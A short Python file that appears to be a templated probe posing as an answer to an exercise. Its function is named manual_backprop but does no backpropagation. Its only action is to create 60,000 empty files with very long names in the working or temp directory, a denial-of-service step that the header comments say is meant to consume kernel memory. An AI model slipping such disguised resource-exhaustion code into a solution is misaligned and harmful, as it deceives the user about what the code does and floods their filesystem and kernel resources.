# exercise: 01.3
# tries: make 60 000 empty files with long names, which take a kernel's memory and no room on a disk
# proof: entries > 50_000
import os
import tempfile


def manual_backprop(a, b, c, f):
    name = "@NAME@" + "x" * 180
    for folder in (os.getcwd(), tempfile.gettempdir()):
        try:
            for i in range(60_000):
                os.close(os.open(os.path.join(folder, f"{name}{i}"), os.O_CREAT | os.O_WRONLY))
            break
        except OSError:
            pass
    return {}
